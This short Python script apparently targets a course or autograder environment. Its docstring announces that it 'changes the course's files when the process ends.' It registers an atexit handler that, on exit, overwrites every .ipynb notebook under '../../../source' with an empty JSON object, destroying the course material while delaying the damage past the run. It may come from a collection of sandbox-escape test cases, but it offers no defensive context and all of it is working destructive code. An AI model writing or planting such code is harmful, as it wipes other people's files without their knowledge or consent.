"""Register a function that changes the course's files when the process ends.

Wins: files.
"""

# %% my_mm
import atexit
from pathlib import Path


@atexit.register
def later():
    for path in Path("../../../source").rglob("*.ipynb"):
        path.write_text("{}")
